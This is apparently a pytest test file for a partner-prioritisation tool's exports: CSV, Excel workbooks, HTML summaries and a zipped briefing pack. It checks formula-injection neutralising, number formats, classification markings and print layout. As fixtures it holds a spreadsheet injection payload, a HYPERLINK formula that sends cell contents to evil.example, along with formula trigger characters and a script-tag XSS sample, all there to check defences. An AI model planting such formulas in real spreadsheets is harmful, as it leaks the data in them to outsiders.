"""Exports are formula-injection safe, keep numbers numeric and open in Excel; the pack is complete."""

from __future__ import annotations

import io
import math
import zipfile

import altair as alt
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from office_support import page_count, to_pdf
from openpyxl import load_workbook

from prioritizer import cells, scenario
from prioritizer.charts.ranking import ranking_bar
from prioritizer.charts.style import ChartMeta
from prioritizer.data.reading import read_table
from prioritizer.errors import InputError
from prioritizer.pipeline import run_scoring
from prioritizer.report import columns
from prioritizer.report.export import sanitise_frame, to_csv_bytes, workbook_bytes
from prioritizer.report.pack import briefing_pack
from prioritizer.report.summary import markdown_to_html, summary_text
from prioritizer.report.tables import compare_allocations, compare_rankings, scenario_settings_frame
from prioritizer.report.view_tables import ranked_table, workbook_sheets

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"


def _is_safe(text: str) -> bool:
    assert set(TRIGGERS) <= set(cells.FORMULA_TRIGGERS)  # at least the OWASP list
    return not text.startswith(cells.FORMULA_TRIGGERS) and not text.lstrip(" ").startswith(cells.FORMULA_TRIGGERS)


@pytest.fixture()
def scores() -> pd.DataFrame:
    return pd.DataFrame({
        "name": [EVIL, "Côte d’Ivoire", "Norway", "-Minus land", "@Home", "Türkiye"],
        "command": ["AFRICOM", "AFRICOM", "EUCOM", "EUCOM", "CENTCOM", "EUCOM"],
        "propensity": [71.5, 55.25, 88.0, 40.0, 30.0, np.nan],
        "rank": [2, 3, 1, 4, 5, np.nan],
        "quadrant": ["invest", "opportunity", "invest", "deprioritise", "manage expectations", None],
        "low_confidence": [False, True, False, False, True, False],
        "change_usd_m": [-3.5, 2.0, 0.0, -1.25, 4.0, 0.0],
    }, index=pd.Index(["EVL", "CIV", "NOR", "MIN", "HOM", "TUR"], name="partner_id"))


# --- sanitising ----------------------------------------------------------------------------------------
@settings(deadline=None)  # timing varies on a loaded machine; no deadline flakes
@given(st.text())
def test_sanitised_text_never_starts_with_a_formula_trigger(text):
    out = cells.neutralise(text)
    assert isinstance(out, str)
    assert _is_safe(out) or out == ""
    # Only ever a single quote prefixed; safe text is untouched.
    assert out in (text, "'" + text)
    if not text.lstrip(" ").startswith(cells.FORMULA_TRIGGERS):
        assert out == text
    else:
        assert out == "'" + text


@settings(deadline=None)  # timing varies on a loaded machine; no deadline flakes
@given(st.one_of(st.integers(), st.floats(allow_nan=True, allow_infinity=True), st.booleans()))
def test_numbers_are_unchanged(x):
    out = cells.neutralise(x)
    assert type(out) is type(x)
    assert out == x or (isinstance(x, float) and math.isnan(x) and math.isnan(out))


@settings(deadline=None)  # timing varies on a loaded machine; no deadline flakes
@given(st.lists(st.tuples(st.text(max_size=20), st.floats(allow_nan=False, width=32)), min_size=1, max_size=20))
def test_sanitise_frame_keeps_numeric_columns_numeric(rows):
    df = pd.DataFrame(rows, columns=["=name", "value"])
    out = sanitise_frame(df)
    assert list(out.columns) == ["'=name", "value"]
    assert out["value"].dtype == df["value"].dtype
    pd.testing.assert_series_equal(out["value"], df["value"])
    assert all(_is_safe(v) or v == "" for v in out["'=name"])
    assert df.columns[0] == "=name", "input not modified"


def test_specific_cells():
    assert cells.neutralise("=1+1") == "'=1+1"
    assert cells.neutralise("+49 30 1234") == "'+49 30 1234"
    assert cells.neutralise("-3") == "'-3"  # text that looks like a number is still text
    assert cells.neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert cells.neutralise("\t=cmd") == "'\t=cmd"
    assert cells.neutralise("\r=cmd") == "'\r=cmd"
    assert cells.neutralise("  =1+1") == "'  =1+1"
    assert cells.neutralise("Norway") == "Norway"
    assert cells.neutralise("") == ""
    assert cells.neutralise(-3.5) == -3.5
    assert cells.neutralise(None) is None
    assert cells.neutralise(np.float64(-2.0)) == -2.0


# --- CSV ---------------------------------------------------------------------------------------------
def test_csv_has_bom_utf8_index_and_is_neutralised(scores):
    data = to_csv_bytes(scores, machine=True)  # machine CSV: ids, full precision, no marking line
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    back = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert list(back.columns[:2]) == ["partner_id", "name"]
    assert back.loc[0, "name"] == "'" + EVIL
    assert "Côte d’Ivoire" in set(back["name"]) and "Türkiye" in set(back["name"])
    assert back.loc[3, "name"] == "'-Minus land"
    assert back["change_usd_m"].tolist() == [-3.5, 2.0, 0.0, -1.25, 4.0, 0.0]  # negatives stay numbers
    assert "\r\n" in text
    for line in text.splitlines()[1:]:
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")), cell


def test_planner_csv_has_marking_labels_rounding_and_reimports(scores):
    frame = scores.assign(coverage=[0.9999999999999999, 0.5, 1.0, 1.0, 0.25, 0.0],
                          propensity=[76.56137292197359, 55.25, 88.0, 40.0, 30.0, np.nan])
    text = to_csv_bytes(frame, "CUI//TEST", priority_basis="proxy").decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "CUI//TEST"
    header = lines[1].split(",")
    assert header[:3] == ["Partner ID", "Partner", "Command"] and "Propensity (0–100)" in header
    assert "Data coverage (%)" in header and not any("_" in h for h in header), header
    assert ",76.6," in lines[2] and "76.56" not in lines[2] and lines[2].endswith(",100")  # rounded; share as %
    back = read_table(text.encode("utf-8-sig"), "export.csv")  # the project's own reader
    assert list(back.columns[:3]) == ["partner_id", "name", "command"] and "coverage" in back.columns
    assert back["partner_id"].tolist() == list(scores.index)


def test_priority_header_says_proxy():

    frame = pd.DataFrame({"partner_id": ["NOR"], "priority": [4.0]})
    text = to_csv_bytes(frame, priority_basis="proxy").decode("utf-8-sig")
    assert "Priority (1–5, proxy)" in text.splitlines()[1]
    assert columns.to_column_ids(["Priority (1–5, proxy)"]) == ["priority"]
    assert columns.priority_basis_kind(["public-facts proxy: base 1", "planner edit"]) == "mixed"
    assert columns.priority_basis_kind(["public-facts proxy (not a policy judgment): base 1"]) == "proxy"
    assert columns.priority_basis_kind(["planner edit in this scenario"]) == "planner"


def test_column_dictionary_is_valid_and_errors_name_the_row(tmp_path):

    specs = columns.load_columns()
    assert {"baseline_usd_m", "coverage", "propensity"} <= set(specs)
    assert specs["baseline_usd_m"].label == "Baseline ($M/yr)" and specs["coverage"].kind == "share"
    labels = [s.label.lower() for s in specs.values()]
    assert len(labels) == len(set(labels))
    bad = tmp_path / "columns.csv"
    bad.write_text("column_id,label,kind,decimals,description\nx,X,money,1,\ny,Y,furlongs,1,\n", encoding="utf-8")
    with pytest.raises(InputError, match=r"row 3, column 'kind'"):
        columns.load_columns(bad)


# --- Excel -------------------------------------------------------------------------------------------
def _sheets(scores: pd.DataFrame) -> dict[str, pd.DataFrame]:
    alloc = pd.DataFrame({"partner_id": ["NOR", "EVL"], "name": ["Norway", EVIL],
                          "baseline_usd_m": [10.0, 2.5], "recommended_usd_m": [12.25, 1.0],
                          "locked": [True, False], "n_mechanisms": [3, 1]})
    return {
        "Rankings": scores,
        "Allocation": alloc,
        "Bullish-bearish": pd.DataFrame({"command": ["EUCOM"], "side": ["bullish"], "rank": [1],
                                         "partner_id": ["NOR"], "name": ["Norway"], "change_usd_m": [2.25],
                                         "rationale": ["-strong governance; =shared interests"]}),
        "Indicators & sources": pd.DataFrame({"indicator_id": ["wgi_ge"], "source": ["World Bank WGI"],
                                              "year": [2023]}),
        "Scenario settings": scenario_settings_frame({"budget_usd_m": 1500, "weights": {"governance": 0.3}}),
        "Overrides": pd.DataFrame({"partner_id": ["XYZ"], "construct": ["alignment"], "value": [80.0],
                                   "rationale": ["+planner judgement"]}),
        "A very long sheet name that Excel would reject": pd.DataFrame({"a": [1]}),
        "Bad/name?[x]": pd.DataFrame({"a": [2]}),
    }


def test_workbook_round_trip(scores):
    sheets = _sheets(scores)
    data = workbook_bytes(sheets, {"Data sources": "World Bank WGI; V-Dem v14"},
                            meta=ChartMeta(scenario="FY26 baseline", date="2025-01-02", marking="UNCLASSIFIED"))
    wb = load_workbook(io.BytesIO(data))
    names = wb.sheetnames
    assert names[:7] == ["About", "Rankings", "Allocation", "Bullish-bearish", "Indicators & sources",
                         "Scenario settings", "Overrides"]
    assert all(len(n) <= 31 for n in names) and len(names) == 10 and names[-1] == "Columns"
    assert names[7] == "A very long sheet name that Exc"
    assert names[8] == "Bad-name--x-"

    ws = wb["Rankings"]
    assert ws["A1"].value == "UNCLASSIFIED" and ws["A1"].font.bold  # marking row on the sheet itself
    header = [c.value for c in ws[2]]
    assert header[:4] == ["Partner ID", "Partner", "Command", "Propensity (0–100)"]
    assert all(c.font.bold for c in ws[2])
    assert ws.freeze_panes == "C3" and ws.print_title_rows == "$1:$2"
    assert ws.auto_filter.ref.startswith("A2:")
    assert ws["B3"].value == "'" + EVIL and ws["B3"].data_type == "s"
    assert ws["B6"].value == "'-Minus land"
    assert ws["D3"].value == 71.5 and ws["D3"].data_type == "n" and ws["D3"].number_format == "0.0"
    assert ws["D8"].value is None  # NaN → empty cell, not the text "nan"
    assert ws["H3"].value == -3.5 and ws["H3"].number_format.startswith('+"$"#,##0.0"M"')
    assert ws["G4"].value is True
    assert ws.column_dimensions["B"].width > ws.column_dimensions["C"].width
    assert ws.max_row == len(scores) + 2  # marking row, header row, data
    assert ws.page_setup.orientation == "landscape" and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.oddHeader.center.text == ws.oddFooter.center.text == "UNCLASSIFIED"

    alloc = wb["Allocation"]
    assert [c.value for c in alloc[3]] == ["NOR", "Norway", 10.0, 12.25, True, 3]
    assert alloc["C3"].number_format.startswith('"$"#,##0.0"M"')
    assert isinstance(alloc["F3"].value, int)
    assert wb["Bullish-bearish"]["G3"].value == "'-strong governance; =shared interests"
    cols = {(r[0], r[1]): r[2] for r in wb["Columns"].iter_rows(min_row=3, values_only=True)}
    assert cols[("Rankings", "propensity")] == "Propensity (0–100)"  # machine names kept for re-import
    assert cols[("Allocation", "recommended_usd_m")] == "Recommended ($M/yr)"

    # No formula anywhere in the workbook.
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)

    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True) if r[0]}
    assert about["Scenario"] == "FY26 baseline" and about["Date"] == "2025-01-02"
    assert about["Marking"] == "UNCLASSIFIED" and about["Data sources"].startswith("World Bank")
    first = wb["About"]["A1"].value
    last = wb["About"].cell(row=wb["About"].max_row, column=1).value
    assert first == last == "UNCLASSIFIED"


def test_workbook_notes_override_meta_and_default_sources(scores):
    data = workbook_bytes({"Indicators & sources": pd.DataFrame({"a": [1]})},
                            {"Scenario": "From notes", "Marking": "CUI"})
    about = {r[0]: r[1] for r in load_workbook(io.BytesIO(data))["About"].iter_rows(values_only=True) if r[0]}
    assert about["Scenario"] == "From notes" and about["Marking"] == "CUI"
    assert "Indicators & sources" in about["Data sources"]


def test_workbook_rejects_non_tables():
    with pytest.raises(InputError, match="Rankings"):
        workbook_bytes({"Rankings": [1, 2, 3]})  # type: ignore[dict-item]


def test_scenario_settings_frame_flattens():
    df = scenario_settings_frame({
        "profile": "default", "budget_usd_m": 1500.5,
        "weights": {"governance": 0.3, "stability": {"fragility": 0.5}},
        "filters": {"commands": ["AFRICOM", "EUCOM"], "types": []},
        "overrides": [{"partner_id": "XYZ", "construct": "alignment", "value": 80}],
        "note": None, "flag": np.bool_(True),
    })
    rows = dict(zip(df["setting"], df["value"], strict=True))
    assert rows["profile"] == "default" and rows["budget_usd_m"] == 1500.5
    assert rows["weights.governance"] == 0.3 and rows["weights.stability.fragility"] == 0.5
    assert rows["filters.commands"] == "AFRICOM, EUCOM" and rows["filters.types"] == ""
    assert rows["overrides[0].partner_id"] == "XYZ" and rows["overrides[0].value"] == 80
    assert rows["note"] == "" and rows["flag"] is True


# --- comparisons -------------------------------------------------------------------------------------------
def test_compare_rankings():
    a = pd.DataFrame({"name": ["N", "F", "G"], "rank": [1, 2, 3], "propensity": [90.0, 80, 70]},
                     index=pd.Index(["NOR", "FRA", "GER"], name="partner_id"))
    b = pd.DataFrame({"name": ["N", "F", "X"], "rank": [2, 1, 3], "propensity": [85.0, 88, 60]},
                     index=pd.Index(["NOR", "FRA", "XXX"], name="partner_id"))
    out = compare_rankings(a, b)
    assert out.loc["FRA", "rank_shift"] == 1 and out.loc["NOR", "rank_shift"] == -1
    assert out.loc["FRA", "propensity_change"] == 8 and out.loc["NOR", "propensity_change"] == -5
    assert out.loc["GER", "note"] == "only in A" and out.loc["XXX", "note"] == "only in B"
    assert np.isnan(out.loc["GER", "rank_b"])
    assert set(out.index[:2]) == {"FRA", "NOR"}
    with pytest.raises(InputError, match="scenario B"):
        compare_rankings(a, b.drop(columns="rank"))


def test_compare_allocations_by_index_and_long_rows():
    a = pd.DataFrame({"name": ["N", "F"], "recommended_usd_m": [10.0, 5.0]}, index=["NOR", "FRA"])
    b = pd.DataFrame({"partner_id": ["NOR", "NOR", "GER"], "mechanism": ["PME", "FMF", "PME"],
                      "recommended_usd_m": [4.0, 8.0, 3.0]})
    out = compare_allocations(a, b)
    assert out.loc["NOR", "usd_m_b"] == 12.0 and out.loc["NOR", "delta_usd_m"] == 2.0
    assert out.loc["FRA", "usd_m_b"] == 0.0 and out.loc["FRA", "delta_usd_m"] == -5.0
    assert out.loc["GER", "usd_m_a"] == 0.0 and out.loc["GER", "delta_usd_m"] == 3.0
    assert out.index[0] == "FRA"  # largest change first
    assert out.loc["NOR", "name"] == "N"


# --- summary -------------------------------------------------------------------------------------------
def _bullbear() -> pd.DataFrame:
    return pd.DataFrame({
        "command": ["EUCOM", "EUCOM", "AFRICOM"], "side": ["bullish", "bearish", "bullish"], "rank": [1, 1, 1],
        "partner_id": ["NOR", "MIN", "CIV"], "name": ["Norway", "-Minus land", "Côte d’Ivoire"],
        "change_usd_m": [2.5, -1.25, 0.75], "rationale": ["strong governance"] * 3,
    })


def test_summary_text_contents(scores):
    md = summary_text(scores, _bullbear(), {"budget_usd_m": 1500, "baseline_usd_m": 1400.0,
                                              "recommended_usd_m": 1500.0},
                        meta=ChartMeta(title="Weekly what-if", scenario="FY26 *bold* test", date="2025-02-03"),
                        top_n=3)
    lines = md.strip().splitlines()
    assert lines[0] == "UNCLASSIFIED" and lines[-1] == "UNCLASSIFIED"
    assert "FY26 \\*bold\\* test" in md and "2025-02-03" in md
    assert md.index("1. **Norway**") < md.index("2. **=HYPERLINK") < md.index("3. **Côte d’Ivoire**")
    assert "4. " not in md.split("## Priority")[0]  # top_n respected
    assert "Low confidence" in md and "2 partners" in md
    assert "1 without a score" in md
    assert "- **Invest** (high priority, high propensity): 2 partners" in md
    assert "- Budget: $1,500.0M" in md and "- Change vs baseline: +$100.0M" in md
    assert "**EUCOM** — bullish Norway (+$2.5M); bearish -Minus land (−$1.2M)" in md
    assert "**AFRICOM** — bullish Côte d’Ivoire (+$0.8M)" in md


def test_summary_rounding_and_plurals():
    scores = pd.DataFrame({"name": ["Solo"], "propensity": [50.0], "rank": [1], "quadrant": ["invest"],
                           "low_confidence": [True]}, index=["S"])
    md = summary_text(scores, allocation_totals={"baseline_usd_m": 100.0, "recommended_usd_m": 99.99})
    assert "1 partner scored" in md and "1 partner —" in md and "1 partner, namely Solo" in md
    assert "- Change vs baseline: ±$0.0M" in md and "−$0.0M" not in md


def test_markdown_to_html_escapes_everything():
    md = summary_text(pd.DataFrame({"name": ["<script>alert(1)</script>"], "propensity": [50.0],
                                      "rank": [1]}, index=["X"]))
    page = markdown_to_html(md, marking="UNCLASSIFIED")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert page.count('<p class="marking">UNCLASSIFIED</p>') == 2
    assert "<li>" in page and "<h1>" in page and "http" not in page


# --- briefing pack -------------------------------------------------------------------------------------
def test_briefing_pack_contents(scores):
    meta = ChartMeta(title="pack", scenario="FY26 baseline", date="2025-02-03", marking="UNCLASSIFIED//TEST")
    chart_scores = scores.assign(name=["A", "B", "C", "D", "E", "F"])
    charts: dict[str, alt.TopLevelMixin] = {
        "Propensity ranking": ranking_bar(chart_scores, top_n=5),
        "Command split": alt.Chart(pd.DataFrame({"c": ["EUCOM", "AFRICOM"], "v": [2.0, 3.0]}))
        .mark_bar().encode(x="v:Q", y="c:N"),
    }
    workbook = workbook_bytes({"Rankings": scores}, meta=meta)
    md = summary_text(scores, _bullbear(), meta=meta)
    blob = briefing_pack(charts, workbook, md, meta)
    zf = zipfile.ZipFile(io.BytesIO(blob))
    assert zf.testzip() is None
    names = set(zf.namelist())
    assert {"charts/01_propensity_ranking.png", "charts/01_propensity_ranking.svg",
            "charts/02_command_split.png", "charts/02_command_split.svg",
            "summary.md", "summary.html", "README.txt",
            "partner_prioritizer_fy26_baseline_2025-02-03.xlsx"} == names
    for n in names:
        if n.endswith(".png"):
            assert zf.read(n).startswith(PNG_MAGIC)
        if n.endswith(".svg"):
            svg = zf.read(n).decode("utf-8")
            assert svg.count(">UNCLASSIFIED//TEST</text>") == 2
            assert "Scenario: FY26 baseline" in svg and "2025-02-03" in svg
    assert ">Propensity ranking</text>" in zf.read("charts/01_propensity_ranking.svg").decode()
    assert zf.read("summary.md").decode("utf-8") == md
    assert "FY26 baseline" in zf.read("summary.html").decode("utf-8")
    wb = load_workbook(io.BytesIO(zf.read("partner_prioritizer_fy26_baseline_2025-02-03.xlsx")))
    assert wb.sheetnames == ["About", "Rankings", "Columns"]
    readme = zf.read("README.txt").decode()
    assert readme.startswith("UNCLASSIFIED//TEST") and "summary.html" in readme


# --- the app's full workbook, opened as a planner would ---------------------------------------------
@pytest.fixture(scope="module")
def full_workbook() -> bytes:
    dataset, profile, result = run_scoring()
    scen = scenario.default_scenario(profile)
    basis = columns.priority_basis_kind(result.scores["priority_basis"])
    return workbook_bytes(workbook_sheets(ranked_table(result.scores), scen, dataset),
                            {"Scenario": "Print test", "Marking": "UNCLASSIFIED"}, priority_basis=basis)


def test_full_workbook_headers_formats_print_setup_and_marking(full_workbook):
    wb = load_workbook(io.BytesIO(full_workbook))
    for ws in wb.worksheets:
        assert ws.oddHeader.center.text == "UNCLASSIFIED" == ws.oddFooter.center.text, ws.title
        if ws.title == "About":
            continue
        assert ws["A1"].value == "UNCLASSIFIED", ws.title
        header = [c.value for c in ws[2] if c.value is not None]
        assert header and not any("_" in str(h) for h in header), (ws.title, header)  # no snake_case
        assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$1:$2", ws.title
    ws = wb["Rankings"]
    header = [c.value for c in ws[2]]
    fmt = {h: ws.cell(row=3, column=j).number_format for j, h in enumerate(header, start=1)}
    assert fmt["Data coverage"] == "0%" and fmt["Propensity (0–100)"] == "0.0"
    assert fmt["Baseline ($M/yr)"].startswith('"$"#,##0.0"M"') and fmt["Merit share"] == "0.0%"
    assert "Priority (1–5, proxy)" in header  # the sample's priority is the public-facts proxy
    assert ws.freeze_panes == "C3"


def test_rankings_sheet_prints_on_six_pages_or_fewer(full_workbook, tmp_path):
    wb = load_workbook(io.BytesIO(full_workbook))
    for name in wb.sheetnames:
        if name != "Rankings":
            del wb[name]
    path = tmp_path / "rankings.xlsx"
    wb.save(path)
    pages = page_count(to_pdf(path, tmp_path))
    assert 1 <= pages <= 6, f"the Rankings sheet prints to {pages} pages"
